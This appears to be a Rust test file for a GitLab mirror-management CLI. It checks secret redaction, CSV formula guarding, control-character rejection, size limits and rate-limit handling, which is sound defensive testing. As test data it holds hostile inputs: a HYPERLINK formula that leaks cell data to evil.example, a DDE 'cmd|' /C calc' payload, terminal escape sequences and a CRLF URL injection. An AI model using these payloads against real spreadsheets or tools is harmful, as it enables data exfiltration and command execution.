//! Hostile input in, clean output out (issue 14): secrets planted in GitLab's text in several
//! encodings, formula and escape cells, oversized cells and bodies, one broken project, long
//! waits, credential scope by port, `--map` mistakes and URL rules for odd hosts.

use base64::Engine as _;
use glmirror::sim::Fixture;

use crate::util::{CANARY, Env, ExitExt as _, Table, text};

/// Every form of `secret` that must never reach an output: raw, fully percent-encoded (both
/// hex cases), and base64 of the two `Authorization: Basic` shapes (`user:token`, `token:`),
/// in the standard and URL-safe alphabets.
fn forms(secret: &str) -> Vec<String> {
    let upper: String = secret.bytes().map(|b| format!("%{b:02X}")).collect();
    let lower: String = secret.bytes().map(|b| format!("%{b:02x}")).collect();
    let mut out = vec![secret.to_owned(), upper, lower];
    for pair in [format!("x-access-token:{secret}"), format!("{secret}:")] {
        out.push(base64::engine::general_purpose::STANDARD.encode(&pair));
        out.push(base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&pair));
    }
    out
}

/// Assert that no form of any secret appears in `haystack`.
fn assert_clean(what: &str, haystack: &str, secrets: &[&str]) {
    for secret in secrets {
        for form in forms(secret) {
            assert!(
                !haystack.contains(&form),
                "{what} holds a form of a secret ({form}):\n{haystack}"
            );
        }
    }
}

/// GitLab error text that carries `secret` in the five shapes the issue found: bare, in a
/// `Basic` header, in a JSON-escaped URL, in a userinfo with a quote, and percent-encoded.
fn hostile_errors(secret: &str) -> [String; 7] {
    let basic =
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{secret}"));
    let percent: String = secret.bytes().map(|b| format!("%{b:02X}")).collect();
    [
        format!("13:fetch remote: \"remote: Invalid token {secret} for user\": exit status 128."),
        format!("fatal: unable to access: sent Authorization: Basic {basic} and got 401"),
        format!("{{\"url\":\"https:\\/\\/x:{secret}@github.com\\/acme\\/api.git\"}} 403"),
        format!("fatal: unable to access 'https://us'er:{secret}@github.com/acme/api.git/': 403"),
        format!("error: 403 for https://github.com/acme/api.git?token={percent}"),
        // Split by invisible characters that a later writer might drop, joining it again.
        format!("remote: bad {}\u{202E}{} x", &secret[..6], &secret[6..]),
        format!("remote: bad {}\u{200B}\u{2066}{} x", &secret[..4], &secret[4..]),
    ]
}

#[test]
fn planted_tokens_in_five_encodings_reach_no_output() {
    let admin = "glsim-demo-admin-0000000000000000000001";
    let env = Env::with(|o| {
        let mut fixture = Fixture::demo();
        let errors = [hostile_errors(CANARY), hostile_errors(admin)].concat();
        let mut planted = 0;
        for p in fixture.projects.iter_mut() {
            if let Some(pull) = p.pull.as_mut().filter(|m| m.mirror)
                && planted < errors.len()
            {
                pull.update_status = "failed".into();
                pull.last_error = Some(errors[planted].clone());
                planted += 1;
            }
            for m in p.remote_mirrors.iter_mut() {
                m.update_status = "failed".into();
                m.last_error = Some(errors[planted % errors.len()].clone());
            }
        }
        assert_eq!(planted, errors.len(), "enough pull mirrors to plant every error");
        o.fixture = fixture;
    });
    let secrets = [CANARY, admin];
    let plan = env.cmd(&["plan", "--source-host", "github.com", "--out", "plan.csv"]).output();
    let plan = plan.expect("plan runs");
    plan.ok();
    assert_clean("plan's stderr", &text(&plan), &secrets);
    let csv = std::fs::read_to_string(env.path("plan.csv")).expect("plan written");
    assert!(csv.contains("Invalid token ***** for user"), "the rest of the text stays:\n{csv}");
    assert_clean("plan.csv", &csv, &secrets);
    for format in ["csv", "json", "table", "junit", "prometheus"] {
        let status = env.cmd(&["status", "--format", format, "-vv"]).output().expect("status");
        assert_clean(&format!("status --format {format}"), &text(&status), &secrets);
    }
    let apply = env
        .cmd(&["apply", "plan.csv", "--source-host", "github.com", "--yes", "-vv"])
        .output()
        .expect("apply runs");
    assert_clean("apply's output", &text(&apply), &secrets);
    // The untouched plan applies: its seal covers the cleaned `last_error` it shows.
    apply.exit_in(&[0, 3]);
    assert!(!text(&apply).contains("was edited"), "{}", text(&apply));
    for file in ["plan.report.csv", "plan.journal"] {
        let body = std::fs::read_to_string(env.path(file)).unwrap_or_default();
        assert!(!body.is_empty(), "{file} written");
        assert_clean(file, &body, &secrets);
    }
}

/// A spreadsheet runs a cell that starts with one of these as a formula.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV text: none starts a formula, none holds a control character.
fn assert_cells_safe(what: &str, csv_text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.expect("valid CSV").iter() {
            cells += 1;
            assert!(!is_formula(cell), "{what}: formula cell {cell:?}");
            assert!(!cell.chars().any(char::is_control), "{what}: control character in {cell:?}");
        }
    }
    assert!(cells > 0, "{what} has cells");
}

/// A fixture whose mirrors' errors are formulas and terminal escapes, and one project whose
/// path holds an escape sequence.
fn formula_env() -> Env {
    Env::with(|o| {
        let mut fixture = Fixture::demo();
        let evil = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1\u{1b}]0;pwned\u{7} and \u{1b}[2J cleared",
            "-2\tsplit\r\ncells",
        ];
        let mut i = 0;
        for p in fixture.projects.iter_mut() {
            if let Some(pull) = p.pull.as_mut().filter(|m| m.mirror) {
                pull.update_status = "failed".into();
                pull.last_error = Some(evil[i % evil.len()].into());
                i += 1;
            }
        }
        fixture.projects[0].path = "api\u{1b}[31m-gateway".into();
        o.fixture = fixture;
    })
}

#[test]
fn status_csv_and_plan_cells_are_formula_guarded_and_escape_free() {
    let env = formula_env();
    let status = env.run(&["status", "--format", "csv"]);
    status.exit(3);
    let csv_text = String::from_utf8(status.stdout.clone()).expect("utf-8");
    assert!(csv_text.contains("'=HYPERLINK"), "the text stays, guarded:\n{csv_text}");
    assert_cells_safe("status --format csv", &csv_text);
    let table = env.run(&["status"]);
    assert!(!String::from_utf8_lossy(&table.stdout).contains('\u{1b}'), "{}", text(&table));
    let json = env.run(&["status", "--format", "json"]);
    let json_text = String::from_utf8_lossy(&json.stdout);
    assert!(!json_text.contains("\\u001b"), "json holds no escapes: {json_text}");

    // With --probe, as the README plans, so apply's own probes pass.
    let plan = env.run(&["plan", "--source-host", "github.com", "--probe", "--out", "plan.csv"]);
    plan.ok();
    assert!(!String::from_utf8_lossy(&plan.stderr).contains('\u{1b}'), "{}", text(&plan));
    let plan_text = std::fs::read_to_string(env.path("plan.csv")).expect("plan");
    assert_cells_safe("plan.csv", &plan_text);
    // The plan still applies (its cells were cleaned before they were sealed).
    let apply = env.run(&["apply", "plan.csv", "--source-host", "github.com", "--yes"]);
    apply.ok();
    let report = std::fs::read_to_string(env.path("plan.report.csv")).expect("report");
    assert_cells_safe("plan.report.csv", &report);
}

/// Plan the demo, then rewrite one cell of the first `service` row with `edit`.
fn plan_and_edit(env: &Env, column: &str, edit: impl Fn(&str) -> String) {
    let plan = env.run(&["plan", "--source-host", "github.com", "--out", "plan.csv"]);
    plan.ok();
    let body = std::fs::read(env.path("plan.csv")).expect("plan");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(body.as_slice());
    let mut records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let header = records[0].clone();
    let col = header.iter().position(|h| h == column).expect("column");
    let auth = header.iter().position(|h| h == "new_auth").expect("new_auth");
    let row = records.iter().position(|r| &r[auth] == "service").expect("a service row");
    let mut cells: Vec<String> = records[row].iter().map(str::to_owned).collect();
    cells[col] = edit(&cells[col]);
    records[row] = csv::StringRecord::from(cells);
    let mut w = csv::WriterBuilder::new().from_writer(Vec::new());
    for r in &records {
        w.write_record(r).expect("write");
    }
    std::fs::write(env.path("plan.csv"), w.into_inner().expect("flush")).expect("write plan");
}

/// `apply plan.csv`: exit 2 with one error line (and at most one hint line) that contains
/// `want`, none of it long.
fn assert_refused_in_one_line(env: &Env, want: &str) {
    let out = env.run(&["apply", "plan.csv", "--source-host", "github.com", "--dry-run"]);
    out.exit(2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let lines: Vec<&str> = stderr.lines().collect();
    assert!(
        stderr.len() < 1000,
        "stderr is {} bytes: {}",
        stderr.len(),
        &stderr[..300.min(stderr.len())]
    );
    assert!(lines[0].starts_with("glmirror: error: plan.csv:"), "{stderr}");
    assert!(lines[0].contains(want), "{stderr}");
    assert!(lines.len() <= 2 && lines.get(1).is_none_or(|l| l.starts_with("  hint: ")), "{stderr}");
    assert!(env.writes().is_empty(), "nothing written");
}

#[test]
fn a_fifty_megabyte_new_url_gives_a_one_line_error() {
    let env = Env::demo();
    plan_and_edit(&env, "new_url", |url| {
        format!("{}{}.git", url.trim_end_matches(".git"), "a".repeat(50 << 20))
    });
    assert_refused_in_one_line(&env, "new_url is 52428");
}

#[test]
fn a_long_new_url_is_quoted_short() {
    // Under the length limit, but not on a source host: the message quotes a short excerpt.
    let env = Env::demo();
    plan_and_edit(&env, "new_url", |_| {
        format!("https://elsewhere.example/{}.git", "b".repeat(4000))
    });
    assert_refused_in_one_line(&env, "is not on a --source-host");
}

#[test]
fn control_characters_in_cells_are_refused_with_the_right_reason() {
    for (column, value, want) in [
        ("reason", "fine\u{0}then", "reason contains the control character U+0000"),
        (
            "new_url",
            "https://github.com/acme/x\u{0}.git",
            "new_url contains the control character U+0000",
        ),
        ("new_url", "https://github.com/acme/\tx.git", "new_url contains a tab"),
        (
            "new_url",
            "https://github.com/acme/x.git\r\nhttps://evil.example/",
            "new_url contains a line break",
        ),
    ] {
        let env = Env::demo();
        plan_and_edit(&env, column, |_| value.to_owned());
        assert_refused_in_one_line(&env, want);
    }
}

#[test]
fn a_reviewers_multi_line_reason_is_folded_in_the_report() {
    let env = Env::demo();
    plan_and_edit(&env, "reason", |_| "=cmd|' /C calc'!A0\r\nsecond line\tand a tab".to_owned());
    let out = env.run(&["apply", "plan.csv", "--source-host", "github.com", "--dry-run"]);
    out.ok();
    let report = std::fs::read_to_string(env.path("plan.report.csv")).expect("report");
    let folded = "'=cmd|' /C calc'!A0 second line and a tab";
    let table = Table::parse("plan.report.csv", &report);
    assert!(table.column("reason").contains(&folded), "{report}");
    assert_cells_safe("plan.report.csv", &report);
}

#[test]
fn huge_arguments_are_quoted_short() {
    let env = Env::demo();
    let huge = "h".repeat(100_000);
    let host = format!("{huge}.example/x");
    let url = format!("https://{huge}:99999");
    for args in [
        vec!["rewrite", "--source-host", host.as_str(), "https://x.example/a.git"],
        vec!["plan", "--mirror-user", huge.as_str(), "--out", "-"],
        vec!["status", "--gitlab-url", url.as_str()],
        vec!["rewrite", "--map", &format!("{huge}=x"), "--map", &format!("{huge}=y"), "a"],
        // clap quotes an invalid value back; GitLab is asked for the huge group.
        vec!["status", "--format", huge.as_str()],
        vec!["plan", "--group", huge.as_str(), "--out", "-"],
        // Paths: a missing plan, a report in a missing directory.
        vec!["apply", huge.as_str(), "--yes"],
        vec!["apply", "plan.csv", "--report", &format!("{huge}/r.csv"), "--dry-run"],
    ] {
        let out = env.run(&args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        out.context(format!("{:?}", &args[..2])).failed();
        assert!(
            stderr.len() < 1200,
            "{} bytes of stderr for {:?}: {}",
            stderr.len(),
            args[..2].to_vec(),
            &stderr[..400.min(stderr.len())]
        );
    }
}

#[test]
fn map_rules_refuse_a_repeated_old_and_warn_about_loose_prefixes() {
    let env = Env::demo();
    let out = env.run(&[
        "rewrite",
        "--map",
        "https://github.com/a/=https://github.com/b/",
        "--map",
        "https://github.com/a/=https://github.com/c/",
        "https://github.com/a/r.git",
    ]);
    out.exit(2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--map https://github.com/a/ is given twice"), "{stderr}");

    let out = env.run(&[
        "rewrite",
        "--map",
        "https://github.com/a=https://github.com/b",
        "https://github.com/abc/r.git",
    ]);
    out.ok();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("warning: --map https://github.com/a does not end in `/` or `:`")
            && stderr.contains("https://github.com/a-other/"),
        "{stderr}"
    );
    // A prefix that ends at a boundary gets no warning.
    let out = env.run(&[
        "rewrite",
        "--map",
        "git@github.com:=https://github.com/",
        "git@github.com:o/r.git",
    ]);
    assert!(!String::from_utf8_lossy(&out.stderr).contains("warning"), "{}", text(&out));
}

/// The rows of a plan CSV, as column → value maps.
fn records(csv_text: &str) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    reader
        .records()
        .map(|r| {
            headers.iter().zip(r.expect("row").iter()).map(|(h, v)| (h.into(), v.into())).collect()
        })
        .collect()
}

fn key(r: &std::collections::BTreeMap<String, String>) -> String {
    format!("{}/{}/{}", r["project_id"], r["mirror_type"], r["mirror_id"])
}

#[test]
fn one_broken_project_leaves_every_other_row_and_exits_3() {
    // Project 33 has a pull and a push mirror: both endpoints answer 500 forever. Project 9
    // (one push mirror) is deleted mid-run: 404.
    let env = Env::with(|o| {
        o.faults.broken_projects = vec![33];
        o.faults.vanished_projects = vec![9];
    });
    let out = env.run(&["plan", "--source-host", "github.com", "--out", "plan.csv"]);
    out.exit(3);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("3 mirrors could not be read"), "{stderr}");
    let plan = records(&std::fs::read_to_string(env.path("plan.csv")).expect("plan"));

    let healthy = Env::demo();
    let out = healthy.run(&["plan", "--source-host", "github.com", "--out", "plan.csv"]);
    out.ok();
    let want = records(&std::fs::read_to_string(healthy.path("plan.csv")).expect("plan"));
    let others = |rows: &[std::collections::BTreeMap<String, String>]| -> Vec<String> {
        rows.iter().filter(|r| !["9", "33"].contains(&r["project_id"].as_str())).map(key).collect()
    };
    assert_eq!(others(&plan), others(&want), "every other row is planned");

    let broken: Vec<_> =
        plan.iter().filter(|r| ["9", "33"].contains(&r["project_id"].as_str())).collect();
    let keys: Vec<String> = broken.iter().map(|r| key(r)).collect();
    assert_eq!(keys, ["9/push/", "33/pull/", "33/push/"], "one row per unreadable read");
    for r in broken {
        assert_eq!(r["diagnosis"], "unreadable", "{r:?}");
        assert_eq!(r["action"], "manual", "{r:?}");
        for column in ["current_url", "current_auth", "current_mirror_user", "new_url", "new_auth"]
        {
            assert_eq!(r[column], "", "{column} of {r:?}");
        }
        assert!(r["reason"].contains("HTTP 500") || r["reason"].contains("HTTP 404"), "{r:?}");
    }

    // The plan applies: the unreadable rows are skipped, like every manual row (the probes
    // are not what this test is about).
    let apply =
        env.run(&["apply", "plan.csv", "--source-host", "github.com", "--yes", "--no-probe"]);
    apply.ok();
    let report = records(&std::fs::read_to_string(env.path("plan.report.csv")).expect("report"));
    let outcome = |k: &str| report.iter().find(|r| key(r) == k).map(|r| r["outcome"].clone());
    assert_eq!(outcome("33/push/").as_deref(), Some("skipped"));

    // status: the run goes on, the unreadable mirrors are unhealthy, exit 3 (--details: read
    // every pull mirror, also those the project list shows finished).
    let status = env.run(&["status", "--format", "csv", "--details"]);
    status.exit(3);
    let rows = records(&String::from_utf8_lossy(&status.stdout));
    let unreadable: Vec<_> = rows.iter().filter(|r| r["diagnosis"] == "unreadable").collect();
    assert_eq!(unreadable.len(), 3, "{rows:?}");
    assert!(unreadable.iter().all(|r| r["health"] == "unhealthy"), "{unreadable:?}");
    assert!(rows.len() > 30, "the other mirrors are reported too");
}

/// Run `glmirror ARGS` against `base`, killing it after `limit`: `None` if it had to be killed.
fn run_bounded(
    base: &str,
    args: &[&str],
    limit: std::time::Duration,
) -> Option<std::process::Output> {
    let mut child = crate::util::glmirror()
        .args(args)
        .env("GITLAB_URL", base)
        .env("GITLAB_TOKEN", "glpat-CANARYbounded0123456789")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("glmirror starts");
    let started = std::time::Instant::now();
    while started.elapsed() < limit {
        if child.try_wait().expect("wait").is_some() {
            return Some(child.wait_with_output().expect("output"));
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.kill().expect("kill");
    let _ = child.wait();
    None
}

#[test]
fn a_long_retry_after_is_a_clear_failure_not_a_silent_wait() {
    use axum::http::StatusCode;
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    let listener = rt.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).expect("bind");
    let base = format!("http://{}/", listener.local_addr().expect("addr"));
    let router = axum::Router::new().fallback(|| async {
        (StatusCode::TOO_MANY_REQUESTS, [("retry-after", "999999")], "Retry later\n")
    });
    rt.spawn(async move { axum::serve(listener, router).await.expect("serve") });
    let out = run_bounded(&base, &["status"], std::time::Duration::from_secs(30))
        .expect("glmirror gave up within 30 s instead of waiting");
    out.exit(1);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("GET /user: HTTP 429, and GitLab asks to wait 999999 s before retrying"),
        "{stderr}"
    );
    assert!(stderr.contains("hint: "), "{stderr}");
}

#[test]
fn a_long_wait_is_logged_at_the_default_level() {
    use axum::http::StatusCode;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    let listener = rt.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).expect("bind");
    let base = format!("http://{}/", listener.local_addr().expect("addr"));
    let hits = std::sync::Arc::new(AtomicUsize::new(0));
    let router = axum::Router::new().fallback(move || {
        let first = hits.fetch_add(1, Ordering::SeqCst) == 0;
        async move {
            if first {
                (StatusCode::TOO_MANY_REQUESTS, [("retry-after", "6")], "Retry later\n")
            } else {
                (StatusCode::UNAUTHORIZED, [("x", "y")], "{\"message\":\"401 Unauthorized\"}")
            }
        }
    });
    rt.spawn(async move { axum::serve(listener, router).await.expect("serve") });
    let out = run_bounded(&base, &["status"], std::time::Duration::from_secs(30)).expect("ends");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(
            "GET /user: HTTP 429, rate limited (Retry-After 6): waiting 6 s before retrying"
        ),
        "{stderr}"
    );
    assert_eq!(stderr.matches("waiting").count(), 1, "one line: {stderr}");
}

#[test]
fn another_port_of_a_source_host_gets_no_token() {
    let env = Env::demo();
    let out = env.run(&[
        "rewrite",
        "--source-host",
        "github.com",
        "https://github.com:8443/o/r.git",
        "https://github.com:443/o/r.git",
    ]);
    out.ok();
    let rows = records(&String::from_utf8_lossy(&out.stdout));
    assert_eq!(rows[0]["new_auth"], "", "{rows:?}");
    assert!(rows[0]["reason"].contains("port 8443 of github.com is not a source host"), "{rows:?}");
    assert_eq!(rows[1]["new_auth"], "service", "{rows:?}");
    // A source host that names its port gets the token there, and only there.
    let out = env.run(&[
        "rewrite",
        "--source-host",
        "git.example.com:8443",
        "--source-user",
        "oauth2",
        "https://git.example.com:8443/g/r.git",
        "https://git.example.com/g/r.git",
        "http://git.example.com/g/r.git",
    ]);
    let rows = records(&String::from_utf8_lossy(&out.stdout));
    let got: Vec<(&str, &str)> =
        rows.iter().map(|r| (r["new_url"].as_str(), r["new_auth"].as_str())).collect();
    assert_eq!(
        got,
        [
            ("https://git.example.com:8443/g/r.git", "service"),
            ("", ""),
            ("https://git.example.com:8443/g/r.git", "service")
        ],
        "{rows:?}"
    );

    // apply refuses a service row whose new_url was edited onto another port.
    plan_and_edit(&env, "new_url", |url| {
        url.replacen("https://github.com/", "https://github.com:8443/", 1)
    });
    assert_refused_in_one_line(&env, "is not on a --source-host given to apply");
}

#[test]
fn a_blocked_gitlab_account_gets_its_own_hint() {
    let blocked_token = "glsim-demo-blocked-0000000000000000009";
    let env = Env::with(|o| {
        let mut fixture = Fixture::demo();
        let mut token = fixture.tokens[0].clone();
        token.id = 99;
        token.token = blocked_token.into();
        token.user_id =
            fixture.users.iter().find(|u| u.state == "blocked").expect("a blocked user").id;
        fixture.tokens.push(token);
        o.fixture = fixture;
    });
    let out = env.cmd(&["status"]).env("GITLAB_TOKEN", blocked_token).output().expect("runs");
    out.exit(1);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("HTTP 403") && stderr.contains("Your account has been blocked"),
        "{stderr}"
    );
    assert!(stderr.contains("hint: the GitLab token's user is blocked"), "{stderr}");
    assert!(!stderr.contains("Maintainer"), "not the permission hint: {stderr}");
}

#[cfg(unix)]
#[test]
fn a_token_file_others_can_read_is_warned_about() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::demo();
    let file = env.path("token");
    std::fs::write(&file, "ghp_CANARYfile0123456789abcdef\n").expect("write");
    let args = |f: &str| {
        vec![
            "rewrite",
            "--source-host",
            "github.com",
            "--source-token-file",
            f,
            "https://github.com/o/r.git",
        ]
        .into_iter()
        .map(str::to_owned)
        .collect::<Vec<_>>()
    };
    let path = file.to_string_lossy().into_owned();
    for (mode, warned) in [(0o644, true), (0o640, true), (0o600, false), (0o400, false)] {
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).expect("chmod");
        let a = args(&path);
        let out = env.run(&a.iter().map(String::as_str).collect::<Vec<_>>());
        out.ok();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.contains("other users can read"), warned, "mode {mode:o}: {stderr}");
        if warned {
            assert!(stderr.contains("chmod 600"), "{stderr}");
        }
        assert!(!stderr.contains("CANARY"), "{stderr}");
    }
}
